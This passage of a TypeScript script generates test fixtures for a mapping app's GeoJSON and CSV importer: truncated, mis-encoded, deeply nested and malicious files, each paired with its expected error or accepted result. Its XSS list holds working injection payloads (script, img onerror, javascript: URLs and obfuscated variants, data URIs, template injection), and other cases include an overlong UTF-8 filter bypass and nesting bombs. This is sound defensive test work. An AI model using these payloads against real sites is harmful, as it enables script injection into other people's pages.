/**
 * The hostile import corpus (docs/reliability.md#hostile-files): GeoJSON and CSV
 * files that are broken, malformed, malicious or huge, each with the outcome the import must give,
 * written deterministically so the committed files can be checked against this script.
 *
 *   npx tsx scripts/hostile-corpus.ts            the small files and manifest.json → e2e/fixtures/hostile/
 *   npx tsx scripts/hostile-corpus.ts --large    also the big ones → e2e/fixtures/hostile-large/ (gitignored)
 *
 * Every file has a family (syntax, structure, rfc7946, properties, size, dates), what it tests,
 * and its expected outcome: an error code of src/import/types.ts ERROR_CODES, with where the
 * message must point (the file, a feature or a spreadsheet row) and words it must contain; or
 * `accepted`, with what must hold of the stored layer. Files are single-fault: every problem
 * reported for a file has its one expected code.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Geometry, Position } from 'geojson';
import { ringSignedArea } from '../src/geo/validate-geojson';
import { visible } from '../src/import/sanitize';
import type { ImportedLayer } from '../src/import/types';
import { ROOT } from './data-files';

export const CORPUS_DIR = join(ROOT, 'e2e/fixtures/hostile');
export const LARGE_DIR = join(ROOT, 'e2e/fixtures/hostile-large');

export const FAMILIES = ['syntax', 'structure', 'rfc7946', 'properties', 'size', 'dates'] as const;
export type Family = (typeof FAMILIES)[number];

type PropValue = string | number | boolean | null;

/** What must hold of a file the import accepts, checked on the stored layer. */
export interface AcceptCheck {
  features: number;
  dated?: number;
  outsideRegion?: number;
  swapped?: number;
  rewoundRings?: number;
  /** Stored property values: the exact value, or a string's length. Features are 0-based. */
  props?: { feature: number; key: string; value?: PropValue; length?: number }[];
  /** The stored column names, exactly. */
  columns?: string[];
  /** Names that must be neither a column nor a stored property. */
  absent?: string[];
  /** A stored feature's geometry, exactly (points are stored as coordinates, not here). */
  geometry?: { feature: number; value: unknown };
  /** A stored feature's position. */
  coordinates?: { feature: number; value: [number, number] };
  /** Every stored exterior ring runs counter-clockwise and every hole clockwise (RFC 7946 §3.1.6). */
  rfcWinding?: boolean;
  /** Stored times (epoch ms, null for undated). */
  times?: { feature: number; value: number | null }[];
  /** Exported as CSV, this many cells start with the `'` that disarms a formula (OWASP CSV injection). */
  exportEscapes?: number;
}

export type Expected =
  | {
      outcome: 'error';
      code: string;
      /** Where the first message points: the whole file, a 1-based feature, or a spreadsheet row. */
      where: { file: true } | { feature: number } | { row: number };
      /** Words the first message must contain: the rule. */
      says: string;
      /** How many problems in all, when more than one. */
      count?: number;
    }
  | { outcome: 'accepted'; holds: string; check: AcceptCheck };

export interface ManifestEntry {
  /** Path under e2e/fixtures/hostile/ (or hostile-large/ when `large`). */
  file: string;
  /** The name the file is imported as: the path's last part, unless the name is the test. */
  name: string;
  family: Family;
  tests: string;
  large: boolean;
  bytes: number;
  sha256: string;
  expect: Expected;
}

export interface Case extends Omit<ManifestEntry, 'bytes' | 'sha256' | 'large' | 'name'> {
  name?: string;
  large?: boolean;
  content: () => Uint8Array;
}

// ——— helpers ———

const enc = new TextEncoder();
const utf8 = (text: string) => enc.encode(text);
const json = (value: unknown) => utf8(JSON.stringify(value));
const bytes = (...parts: (number[] | Uint8Array | string)[]) => {
  const chunks = parts.map((p) => (typeof p === 'string' ? utf8(p) : Uint8Array.from(p)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const c of chunks) {
    out.set(c, at);
    at += c.length;
  }
  return out;
};

/** Midnight at the start of a local (UTC+4) day, computed without the app's code. */
const local = (y: number, m: number, d: number, h = 0, min = 0) => Date.UTC(y, m - 1, d, h, min) - 4 * 3_600_000;

const STEPANAKERT: [number, number] = [46.7528, 39.8153];
const SHUSHA: [number, number] = [46.7486, 39.7583];
const GORIS: [number, number] = [46.3383, 39.5075];

type Geo = Record<string, unknown> | null;
const point = (c: unknown = STEPANAKERT): Geo => ({ type: 'Point', coordinates: c });
const feature = (geometry: unknown, properties: unknown = { name: 'Stepanakert', date: '2023-09-19' }) => ({
  type: 'Feature',
  properties,
  geometry,
});
const fcOf = (...features: unknown[]) => ({ type: 'FeatureCollection', features });
/** A collection of good points with `bad` at position `at` (0-based). */
const withBad = (bad: unknown, at = 1, total = 3) =>
  fcOf(...Array.from({ length: total }, (_, i) => (i === at ? bad : feature(point(i % 2 ? SHUSHA : STEPANAKERT)))));

/** Counter-clockwise square around Stepanakert, and the same clockwise. */
const CCW = [
  [46.7, 39.79],
  [46.79, 39.79],
  [46.79, 39.84],
  [46.7, 39.84],
  [46.7, 39.79],
];
const CW = [...CCW].reverse();
const HOLE_CW = [
  [46.73, 39.8],
  [46.73, 39.82],
  [46.76, 39.82],
  [46.76, 39.8],
  [46.73, 39.8],
];
const HOLE_CCW = [...HOLE_CW].reverse();

const csv = (...lines: string[]) => utf8(lines.join('\n'));
const CSV_HEAD = 'event_date,latitude,longitude,location,notes';
const csvRow = (date: string, [lon, lat]: [number, number], location: string, notes: string) =>
  `${date},${lat},${lon},${location},${notes}`;
const GOOD_ROWS = [
  csvRow('2023-09-19', STEPANAKERT, 'Stepanakert', 'Synthetic row'),
  csvRow('2023-09-20', SHUSHA, 'Shusha', 'Synthetic row'),
];

const err = (
  code: string,
  where: { file: true } | { feature: number } | { row: number },
  says: string,
  count?: number,
): Expected => ({ outcome: 'error', code, where, says, ...(count === undefined ? {} : { count }) });
const FILE = { file: true } as const;
const atFeature = (feature: number) => ({ feature });
const atRow = (row: number) => ({ row });
const ok = (holds: string, check: AcceptCheck): Expected => ({ outcome: 'accepted', holds, check });

/** A deterministic pseudo-random sequence (mulberry32). */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Emoji, Armenian, Cyrillic and Arabic script in one string. */
const SCRIPTS = '🏳️ Ստեփանակերտ Степанакерт خانکندی';

const XSS = {
  img: '<img src=x onerror=window.__pwned=1>',
  svg: '<svg onload=window.__pwned=1>',
  script: '<script>window.__pwned=1</script>',
  iframe: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  attr: '" onmouseover="window.__pwned=1" x="',
  details: '<details open ontoggle=window.__pwned=1>',
  style: '<style>@import "javascript:window.__pwned=1"</style>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant literally
  template: '${window.__pwned=1}{{constructor.constructor("window.__pwned=1")()}}',
  js: 'javascript:window.__pwned=1',
  jsMixed: 'JaVaScRiPt:window.__pwned=1',
  jsSpace: ' \t\njavascript:window.__pwned=1',
  jsTab: 'java\tscript:window.__pwned=1',
  jsEntity: '&#106;avascript:window.__pwned=1',
  dataHtml: 'data:text/html,<script>window.__pwned=1</script>',
  dataSvg: 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=',
  vbscript: 'vbscript:msgbox(1)',
  https: 'https://www.example.org/report?id=1&x=<b>',
};

/** A case whose file is written with the large ones, not committed. */
const big = (c: Case): Case => ({ ...c, large: true });

// ——— the cases ———

function syntaxCases(): Case[] {
  const good = JSON.stringify(fcOf(feature(point()), feature(point(SHUSHA))));
  const family = 'syntax' as const;
  const c = (file: string, tests: string, content: () => Uint8Array, expect: Expected, name?: string): Case => ({
    file: `syntax/${file}`,
    family,
    tests,
    content,
    expect,
    ...(name ? { name } : {}),
  });
  const syntaxError = err('json-syntax', FILE, 'not valid JSON');
  const cases: Case[] = [];
  // Cut off at many points of a good file.
  const cuts: [string, number][] = [
    ['after-open-brace', 1],
    ['in-type-name', 5],
    ['after-features-bracket', good.indexOf('[') + 1],
    ['mid-string', good.indexOf('Stepanakert') + 4],
    ['mid-number', good.indexOf('46.75') + 3],
    ['after-comma', good.indexOf('},{') + 2],
    ['last-brace-missing', good.length - 1],
  ];
  for (const [label, at] of cuts) {
    cases.push(
      c(
        `truncated-${label}.geojson`,
        `a good file cut off ${label.replace(/-/g, ' ')}`,
        () => utf8(good.slice(0, at)),
        syntaxError,
      ),
    );
  }
  const replaced = (from: string, to: string) => () => utf8(good.replace(from, to));
  cases.push(
    c(
      'trailing-comma-array.geojson',
      'a comma after the last position',
      replaced('46.7528,39.8153]', '46.7528,39.8153,]'),
      syntaxError,
    ),
    c(
      'trailing-comma-object.geojson',
      'a comma after the last member',
      replaced('"date":"2023-09-19"}', '"date":"2023-09-19",}'),
      syntaxError,
    ),
    c('single-quotes.geojson', "strings in 'single quotes'", () => utf8(good.replace(/"/g, "'")), syntaxError),
    c(
      'unquoted-names.geojson',
      'member names without quotes',
      () => utf8(good.replace(/"(\w+)":/g, '$1:')),
      syntaxError,
    ),
    c('line-comment.geojson', 'a // comment', () => utf8(`// exported from QGIS\n${good}`), syntaxError),
    c(
      'block-comment.geojson',
      'a /* comment */',
      replaced('"features":', '/* the features */"features":'),
      syntaxError,
    ),
    c('nan-literal.geojson', 'NaN as a coordinate (not JSON)', replaced('46.7528', 'NaN'), syntaxError),
    c('infinity-literal.geojson', 'Infinity as a coordinate (not JSON)', replaced('46.7528', 'Infinity'), syntaxError),
    c('hex-number.geojson', 'a hexadecimal number', replaced('46.7528', '0x2E'), syntaxError),
    c('leading-zero.geojson', 'a number with a leading zero', replaced('46.7528', '046.7528'), syntaxError),
    c('plus-sign.geojson', 'a number with a plus sign', replaced('46.7528', '+46.7528'), syntaxError),
    c(
      'raw-newline-in-string.geojson',
      'a line break inside a string',
      replaced('Stepanakert', 'Stepan\nakert'),
      syntaxError,
    ),
    c(
      'raw-nul-in-string.geojson',
      'a NUL byte inside a string',
      replaced('Stepanakert', 'Stepan\u0000akert'),
      syntaxError,
    ),
    c(
      'bad-escape.geojson',
      'an escape JSON does not have (\\x41)',
      replaced('Stepanakert', 'Stepan\\x41kert'),
      syntaxError,
    ),
    c('trailing-garbage.geojson', 'text after the JSON value', () => utf8(`${good} and more`), syntaxError),
    c('two-values.geojson', 'two JSON values one after the other', () => utf8(`${good}\n${good}`), syntaxError),
    c(
      'newline-delimited.geojson',
      'newline-delimited features (GeoJSON text sequences), not one GeoJSON text',
      () => utf8(`${JSON.stringify(feature(point()))}\n${JSON.stringify(feature(point(SHUSHA)))}\n`),
      syntaxError,
    ),
    c(
      'html-page.geojson',
      'an HTML page with a script payload saved as .geojson',
      () => utf8(`${XSS.img}<p>Not found</p>`),
      err('json-syntax', FILE, 'not valid JSON'),
    ),
    c(
      'kml.geojson',
      'KML (XML) saved as .geojson',
      () => utf8('<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark/></kml>'),
      syntaxError,
    ),
    c('csv-as-geojson.geojson', 'a CSV saved as .geojson', () => csv(CSV_HEAD, ...GOOD_ROWS), syntaxError),
    c('empty.geojson', 'a file of 0 bytes', () => new Uint8Array(0), err('empty', FILE, 'the file is empty')),
    c(
      'whitespace.geojson',
      'a file of spaces and line breaks',
      () => utf8(' \n\t\r\n  '),
      err('empty', FILE, 'the file is empty'),
    ),
    c(
      'only-bom.geojson',
      'a file that is only a byte order mark',
      () => bytes([0xef, 0xbb, 0xbf]),
      err('empty', FILE, 'the file is empty'),
    ),
    c(
      'bom.geojson',
      'a UTF-8 byte order mark before the JSON',
      () => bytes([0xef, 0xbb, 0xbf], good),
      ok('read as if the mark were not there', { features: 2 }),
    ),
    c(
      'bom.json',
      'a .json file with a byte order mark',
      () => bytes([0xef, 0xbb, 0xbf], good),
      ok('.json is read as GeoJSON', { features: 2 }),
    ),
    c(
      'utf16le-bom.geojson',
      'UTF-16 LE text with its byte order mark',
      () =>
        bytes(
          [0xff, 0xfe],
          [...good].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8]),
        ),
      err('encoding', FILE, 'UTF-16'),
    ),
    c(
      'utf16be-bom.geojson',
      'UTF-16 BE text with its byte order mark',
      () =>
        bytes(
          [0xfe, 0xff],
          [...good].flatMap((ch) => [ch.charCodeAt(0) >> 8, ch.charCodeAt(0) & 0xff]),
        ),
      err('encoding', FILE, 'UTF-16'),
    ),
    c(
      'utf16le-no-bom.geojson',
      'UTF-16 LE text without a byte order mark',
      () => bytes([...good].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8])),
      err('encoding', FILE, 'looks like UTF-16'),
    ),
    c(
      'windows-1252.geojson',
      'a name in Windows-1252 (é as byte E9), not UTF-8',
      () => {
        const at = good.indexOf('Stepanakert') + 'Stepanakert'.length;
        return bytes(good.slice(0, at), ' caf', [0xe9], good.slice(at));
      },
      err('encoding', FILE, 'not UTF-8'),
    ),
    c(
      'overlong-utf8.geojson',
      'an overlong UTF-8 form of "/" (C0 AF), a classic filter bypass',
      () => bytes(good.slice(0, 60), [0xc0, 0xaf], good.slice(60)),
      err('encoding', FILE, 'not UTF-8'),
    ),
    c(
      'utf8-surrogate.geojson',
      'a UTF-16 surrogate encoded in UTF-8 (ED A0 80)',
      () => bytes(good.slice(0, 60), [0xed, 0xa0, 0x80], good.slice(60)),
      err('encoding', FILE, 'not UTF-8'),
    ),
    c(
      'gzip.geojson',
      'a gzip-compressed file with the .geojson name',
      () => bytes([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03], good),
      err('encoding', FILE, 'gzip'),
    ),
    c('pdf.geojson', 'a PDF named .geojson', () => utf8('%PDF-1.7\n%âãÏÓ\n1 0 obj\n'), err('encoding', FILE, 'PDF')),
    c(
      'png.geojson',
      'a PNG image named .geojson',
      () => bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
      err('encoding', FILE, 'PNG'),
    ),
    c(
      'escaped-nul-and-lone-surrogate.geojson',
      'a property with an escaped NUL and a lone surrogate: valid JSON, kept as data',
      replaced('"name":"Stepanakert"', '"name":"a\\u0000b\\ud800c"'),
      ok('kept as the string JSON says', {
        features: 2,
        props: [{ feature: 0, key: 'name', value: 'a\u0000b\ud800c' }],
      }),
    ),
  );
  // Names given twice: JSON.parse keeps the last; other programs the first.
  const dup = (file: string, tests: string, from: string, to: string, where: Expected) =>
    cases.push(c(file, tests, replaced(from, to), where));
  const dupSays = 'is given twice';
  dup(
    'duplicate-type-top.geojson',
    'two "type" members at the top, FeatureCollection and Feature',
    '{"type":"FeatureCollection"',
    '{"type":"FeatureCollection","type":"Feature"',
    err('duplicate-key', FILE, dupSays),
  );
  dup(
    'duplicate-features.geojson',
    'two "features" members, the second empty',
    '{"type":"FeatureCollection"',
    '{"type":"FeatureCollection","features":[]',
    err('duplicate-key', FILE, dupSays),
  );
  cases.push(
    c(
      'duplicate-coordinates.geojson',
      'a Point with two "coordinates" members, in feature 2',
      () =>
        utf8(
          JSON.stringify(fcOf(feature(point()), feature(point(SHUSHA)))).replace(
            `"coordinates":[${SHUSHA.join(',')}]`,
            `"coordinates":[${SHUSHA.join(',')}],"coordinates":[0,0]`,
          ),
        ),
      err('duplicate-key', atFeature(2), dupSays),
    ),
    c(
      'duplicate-geometry-type.geojson',
      'a geometry that says Point and Polygon, in feature 2',
      () =>
        utf8(
          JSON.stringify(fcOf(feature(point()), feature(point(SHUSHA)))).replace(
            /"type":"Point","coordinates":\[46\.7486/,
            '"type":"Point","type":"Polygon","coordinates":[46.7486',
          ),
        ),
      err('duplicate-key', atFeature(2), dupSays),
    ),
    c(
      'duplicate-property.geojson',
      'a property given twice with different values, in feature 3',
      () =>
        utf8(
          JSON.stringify(fcOf(feature(point()), feature(point()), feature(point(SHUSHA), { name: 'Shusha' }))).replace(
            '"name":"Shusha"',
            '"name":"Shusha","name":"Shushi"',
          ),
        ),
      err('duplicate-key', atFeature(3), dupSays),
    ),
    c(
      'duplicate-escaped-name.geojson',
      'the same name written plainly and with an escape ("name", "\\u006eame")',
      replaced('"name":"Stepanakert"', '"name":"Stepanakert","\\u006eame":"x"'),
      err('duplicate-key', atFeature(1), dupSays),
    ),
    c(
      'duplicate-geometry.geojson',
      'a feature with two geometries, the second null',
      replaced(
        '"geometry":{"type":"Point","coordinates":[46.7486',
        '"geometry":null,"geometry":{"type":"Point","coordinates":[46.7486',
      ),
      err('duplicate-key', atFeature(2), dupSays),
    ),
  );
  // Numbers JSON.parse turns into Infinity.
  cases.push(
    c(
      '1e999-longitude.geojson',
      'longitude 1e999, which JSON.parse reads as Infinity',
      replaced('46.7528', '1e999'),
      err('bad-coordinate', atFeature(1), 'finite'),
    ),
    c(
      'minus-1e999-latitude.geojson',
      'latitude -1e999 in feature 2',
      replaced('39.7583', '-1e999'),
      err('bad-coordinate', atFeature(2), 'finite'),
    ),
    c(
      '1e999-property.geojson',
      'a property of 1e999: not a position, so kept as null',
      replaced('"name":"Stepanakert"', '"name":"Stepanakert","magnitude":1e999'),
      ok('the property is kept as null, not Infinity', {
        features: 2,
        props: [{ feature: 0, key: 'magnitude', value: null }],
      }),
    ),
  );
  // Nesting: what cost JSON.parse seconds and gigabytes.
  const N = 100_000;
  const deepArray = `${'['.repeat(N)}${']'.repeat(N)}`;
  const deepObject = `${'{"a":'.repeat(N)}1${'}'.repeat(N)}`;
  const deepSays = 'nests more than 64 levels deep';
  const deepIn = (value: string) => good.replace('"name":"Stepanakert"', `"name":"Stepanakert","deep":${value}`);
  cases.push(
    c(
      'deep-array-100k.geojson',
      '100,000 nested arrays as the whole file',
      () => utf8(deepArray),
      err('too-deep', FILE, `the file ${deepSays}`),
    ),
    c(
      'deep-object-100k.geojson',
      '100,000 nested objects as the whole file',
      () => utf8(deepObject),
      err('too-deep', FILE, `the member "a" ${deepSays}`),
    ),
    c(
      'deep-unclosed-100k.geojson',
      '100,000 opening brackets that never close',
      () => utf8('['.repeat(N)),
      err('too-deep', FILE, deepSays),
    ),
    c(
      'deep-in-properties-100k.geojson',
      '100,000 nested arrays in a property',
      () => utf8(deepIn(deepArray)),
      err('too-deep', atFeature(1), deepSays),
    ),
    c(
      'deep-in-coordinates-100k.geojson',
      "100,000 nested arrays as a Point's coordinates, in feature 2",
      () => utf8(good.replace(`[${SHUSHA.join(',')}]`, deepArray)),
      err('too-deep', atFeature(2), deepSays),
    ),
    c(
      'deep-foreign-member-100k.geojson',
      '100,000 nested objects in a member beside "features"',
      () => utf8(good.replace('{"type":"FeatureCollection"', `{"type":"FeatureCollection","extra":${deepObject}`)),
      err('too-deep', FILE, `the member "extra" ${deepSays}`),
    ),
    c(
      'deep-65-levels.geojson',
      'one level over the limit: 65 containers from the top',
      // FeatureCollection, features, feature, properties: 4; then 61 arrays.
      () => utf8(deepIn(`${'['.repeat(61)}${']'.repeat(61)}`)),
      err('too-deep', atFeature(1), deepSays),
    ),
    c(
      'deep-64-levels.geojson',
      'exactly at the limit: 64 containers from the top',
      () => utf8(deepIn(`${'['.repeat(60)}1${']'.repeat(60)}`)),
      ok('imported; the nested property is kept as JSON text', {
        features: 2,
        props: [{ feature: 0, key: 'deep', value: `${'['.repeat(60)}1${']'.repeat(60)}` }],
      }),
    ),
  );
  // CSV syntax.
  const cc = (file: string, tests: string, content: () => Uint8Array, expect: Expected) =>
    cases.push(c(file, tests, content, expect));
  cc(
    'csv-unclosed-quote.csv',
    'a quoted cell that never closes, in row 3',
    () => csv(CSV_HEAD, GOOD_ROWS[0] ?? '', '2023-09-20,39.75,46.74,Shusha,"never closed'),
    err('csv-syntax', atRow(3), 'Quoted field unterminated'),
  );
  cc(
    'csv-bad-quote.csv',
    'text after a closing quote, in row 3',
    () => csv(CSV_HEAD, GOOD_ROWS[0] ?? '', '2023-09-20,39.7583,46.7486,Shusha,"Shushi"or Shusha"'),
    err('csv-syntax', atRow(3), 'Trailing quote'),
  );
  cc('csv-empty.csv', 'a CSV of 0 bytes', () => new Uint8Array(0), err('empty', FILE, 'the file is empty'));
  cc(
    'csv-whitespace.csv',
    'a CSV of blank lines',
    () => utf8('\n\n  \r\n\t\n'),
    err('empty', FILE, 'the file is empty'),
  );
  cc(
    'csv-header-only.csv',
    'a header and no rows',
    () => csv(CSV_HEAD),
    err('empty', FILE, 'a header but no data rows'),
  );
  cc(
    'csv-bom.csv',
    'a UTF-8 byte order mark before the header (as Excel writes)',
    () => bytes([0xef, 0xbb, 0xbf], [CSV_HEAD, ...GOOD_ROWS].join('\r\n')),
    ok('the header is read without the mark', { features: 2, columns: CSV_HEAD.split(',') }),
  );
  cc(
    'csv-utf16le.csv',
    'a CSV saved as UTF-16 (Excel\'s "Unicode text")',
    () =>
      bytes(
        [0xff, 0xfe],
        [...[CSV_HEAD, ...GOOD_ROWS].join('\r\n')].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8]),
      ),
    err('encoding', FILE, 'UTF-16'),
  );
  cc(
    'csv-windows-1252.csv',
    'a CSV in Windows-1252 (Armenian names lost, é as E9)',
    () => bytes(`${CSV_HEAD}\n2023-09-19,39.8153,46.7528,Stepanakert,caf`, [0xe9], '\n'),
    err('encoding', FILE, 'line 2'),
  );
  cc(
    'csv-xlsx.csv',
    'an Excel workbook (a ZIP archive) named .csv',
    () => bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0x06, 0], '[Content_Types].xml'),
    err('encoding', FILE, 'ZIP archive'),
  );
  cc(
    'csv-xls.csv',
    'an old Excel workbook named .csv',
    () => bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    err('encoding', FILE, '.xls'),
  );
  return cases;
}

function structureCases(): Case[] {
  const family = 'structure' as const;
  const c = (file: string, tests: string, content: unknown, expect: Expected): Case => ({
    file: `structure/${file}`,
    family,
    tests,
    content: () => (content instanceof Uint8Array ? content : json(content)),
    expect,
  });
  const notGeo = (says: string) => err('not-feature-collection', FILE, says);
  const invalid = (n: number, says: string) => err('invalid-geojson', atFeature(n), says);
  const good = feature(point());
  const cases: Case[] = [
    c('top-array.geojson', 'an empty array instead of an object', [], notGeo('found an array')),
    c(
      'top-array-of-features.geojson',
      'an array of features without a FeatureCollection',
      [good, good],
      notGeo('found an array'),
    ),
    c('top-string.geojson', 'a JSON string', 'FeatureCollection', notGeo('found a string')),
    c('top-number.geojson', 'a JSON number', 42, notGeo('found a number')),
    c('top-null.geojson', 'JSON null', null, notGeo('found null')),
    c('top-true.geojson', 'JSON true', true, notGeo('found a boolean')),
    c(
      'missing-type.geojson',
      'a collection without "type"',
      { features: [good] },
      notGeo('found an object without "type"'),
    ),
    c(
      'type-lowercase.geojson',
      '"featurecollection" in lower case',
      { type: 'featurecollection', features: [good] },
      notGeo('"featurecollection"'),
    ),
    c('type-number.geojson', '"type": 7', { type: 7, features: [good] }, notGeo('found an object of type 7')),
    c(
      'type-html.geojson',
      'a "type" that is an HTML payload',
      { type: XSS.img, features: [good] },
      notGeo('found an object of type'),
    ),
    c('topojson.geojson', 'TopoJSON, not GeoJSON', { type: 'Topology', objects: {}, arcs: [] }, notGeo('TopoJSON')),
    c(
      'features-missing.geojson',
      'a FeatureCollection without "features"',
      { type: 'FeatureCollection' },
      notGeo('needs a "features" array'),
    ),
    c(
      'features-null.geojson',
      '"features": null',
      { type: 'FeatureCollection', features: null },
      notGeo('needs a "features" array'),
    ),
    c(
      'features-object.geojson',
      '"features" as an object',
      { type: 'FeatureCollection', features: { 0: good } },
      notGeo('needs a "features" array'),
    ),
    c(
      'features-string.geojson',
      '"features" as a string',
      { type: 'FeatureCollection', features: '[]' },
      notGeo('needs a "features" array'),
    ),
    c(
      'empty-collection.geojson',
      'a FeatureCollection with no features',
      fcOf(),
      err('empty', FILE, 'has no features'),
    ),
    c(
      'lone-feature.geojson',
      'a lone Feature: a GeoJSON text too (RFC 7946 §2)',
      good,
      ok('read as a collection of one', { features: 1, coordinates: { feature: 0, value: STEPANAKERT } }),
    ),
    c(
      'lone-point.geojson',
      'a bare Point geometry',
      point(GORIS),
      ok('read as one feature without properties', {
        features: 1,
        coordinates: { feature: 0, value: GORIS },
        columns: [],
      }),
    ),
    c(
      'lone-polygon-clockwise.geojson',
      'a bare clockwise Polygon',
      { type: 'Polygon', coordinates: [CW] },
      ok('read as one feature, its ring rewound', { features: 1, rewoundRings: 1, rfcWinding: true }),
    ),
    c(
      'lone-geometry-collection.geojson',
      'a bare GeometryCollection',
      { type: 'GeometryCollection', geometries: [point(), { type: 'LineString', coordinates: [STEPANAKERT, GORIS] }] },
      ok('read as one feature', { features: 1 }),
    ),
    c(
      'feature-null.geojson',
      'null in place of feature 2',
      withBad(null),
      invalid(2, 'a feature must be a JSON object'),
    ),
    c(
      'feature-number.geojson',
      'a number in place of feature 2',
      withBad(7),
      invalid(2, 'a feature must be a JSON object'),
    ),
    c(
      'feature-array.geojson',
      'an array in place of feature 2',
      withBad([1, 2]),
      invalid(2, 'a feature must be a JSON object'),
    ),
    c(
      'feature-string.geojson',
      'a string in place of feature 3',
      withBad(XSS.svg, 2),
      invalid(3, 'a feature must be a JSON object'),
    ),
    c(
      'feature-missing-type.geojson',
      'feature 2 without "type"',
      withBad({ properties: {}, geometry: point() }),
      invalid(2, '"type"'),
    ),
    c(
      'feature-type-lowercase.geojson',
      'feature 2 of type "feature"',
      withBad({ type: 'feature', properties: {}, geometry: point() }),
      invalid(2, 'type must be "Feature"'),
    ),
    c(
      'feature-is-collection.geojson',
      'a FeatureCollection in place of feature 2',
      withBad(fcOf(good)),
      invalid(2, 'type must be "Feature"'),
    ),
    c(
      'feature-missing-geometry.geojson',
      'feature 2 without "geometry"',
      withBad({ type: 'Feature', properties: {} }),
      invalid(2, '"geometry"'),
    ),
    c(
      'feature-missing-properties.geojson',
      'feature 2 without "properties"',
      withBad({ type: 'Feature', geometry: point() }),
      invalid(2, '"properties"'),
    ),
    c(
      'null-geometry.geojson',
      'feature 2 with geometry null',
      withBad(feature(null)),
      err('no-geometry', atFeature(2), 'has no geometry'),
    ),
    c(
      'null-geometry-last.geojson',
      'the last of 3 features with geometry null',
      withBad(feature(null), 2),
      err('no-geometry', atFeature(3), 'has no geometry'),
    ),
    c(
      'geometry-array.geojson',
      'a geometry that is an array',
      withBad(feature([46.7, 39.8])),
      invalid(2, 'a geometry must be an object'),
    ),
    c(
      'geometry-string.geojson',
      'a geometry that is WKT text',
      withBad(feature('POINT (46.7 39.8)')),
      invalid(2, 'a geometry must be an object'),
    ),
    c(
      'geometry-missing-type.geojson',
      'a geometry without "type"',
      withBad(feature({ coordinates: STEPANAKERT })),
      invalid(2, 'the geometry has no "type"'),
    ),
    c(
      'geometry-type-circle.geojson',
      'a "Circle" geometry',
      withBad(feature({ type: 'Circle', coordinates: STEPANAKERT, radius: 5 })),
      invalid(2, '"Circle" is not a GeoJSON geometry type'),
    ),
    c(
      'geometry-type-lowercase.geojson',
      'a "point" geometry',
      withBad(feature({ type: 'point', coordinates: STEPANAKERT })),
      invalid(2, '"point" is not a GeoJSON geometry type'),
    ),
    c(
      'geometry-type-feature.geojson',
      'a Feature in place of a geometry',
      withBad(feature(good)),
      invalid(2, '"Feature" is not a GeoJSON geometry type'),
    ),
    c(
      'geometry-type-html.geojson',
      'a geometry type that is an HTML payload',
      withBad(feature({ type: XSS.img, coordinates: STEPANAKERT })),
      invalid(2, 'is not a GeoJSON geometry type'),
    ),
    c(
      'coordinates-missing.geojson',
      'a Point without coordinates',
      withBad(feature({ type: 'Point' })),
      invalid(2, "a Point's coordinates must be a position"),
    ),
    c(
      'coordinates-null.geojson',
      'a Point with coordinates null',
      withBad(feature({ type: 'Point', coordinates: null })),
      invalid(2, "a Point's coordinates must be a position"),
    ),
    c(
      'coordinates-string.geojson',
      'coordinates as the text "46.7,39.8"',
      withBad(feature({ type: 'Point', coordinates: '46.7,39.8' })),
      invalid(2, "a Point's coordinates must be a position"),
    ),
    c(
      'coordinates-object.geojson',
      'coordinates as {"lon":…,"lat":…}',
      withBad(feature({ type: 'Point', coordinates: { lon: 46.7, lat: 39.8 } })),
      invalid(2, "a Point's coordinates must be a position"),
    ),
    c(
      'point-nested.geojson',
      'a Point whose coordinates are a list of positions',
      withBad(feature({ type: 'Point', coordinates: [STEPANAKERT] })),
      invalid(2, "a Point's coordinates must be a position"),
    ),
    c(
      'linestring-flat.geojson',
      'a LineString as a flat list of numbers',
      withBad(feature({ type: 'LineString', coordinates: [46.7, 39.8, 46.3, 39.5] })),
      invalid(2, "a LineString's coordinates must be an array of positions"),
    ),
    c(
      'polygon-missing-ring-level.geojson',
      'a Polygon without the ring level',
      withBad(feature({ type: 'Polygon', coordinates: CCW })),
      invalid(2, "a Polygon's coordinates must be an array of arrays of positions"),
    ),
    c(
      'multipolygon-missing-level.geojson',
      'a MultiPolygon with only two levels',
      withBad(feature({ type: 'MultiPolygon', coordinates: [CCW] })),
      invalid(2, "a MultiPolygon's coordinates must be polygons"),
    ),
    c(
      'collection-missing-geometries.geojson',
      'a GeometryCollection without "geometries"',
      withBad(feature({ type: 'GeometryCollection' })),
      invalid(2, 'must be an array of geometries'),
    ),
    c(
      'collection-geometries-null.geojson',
      'a GeometryCollection with geometries null',
      withBad(feature({ type: 'GeometryCollection', geometries: null })),
      invalid(2, 'must be an array of geometries'),
    ),
    c(
      'collection-member-null.geojson',
      'a GeometryCollection with a null member',
      withBad(feature({ type: 'GeometryCollection', geometries: [point(), null] })),
      invalid(2, 'a geometry must be an object'),
    ),
    c(
      'collection-empty.geojson',
      'an empty GeometryCollection',
      withBad(feature({ type: 'GeometryCollection', geometries: [] })),
      err('no-geometry', atFeature(2), 'the GeometryCollection is empty'),
    ),
    c(
      'collection-of-empty.geojson',
      'a GeometryCollection whose only member is an empty MultiPoint',
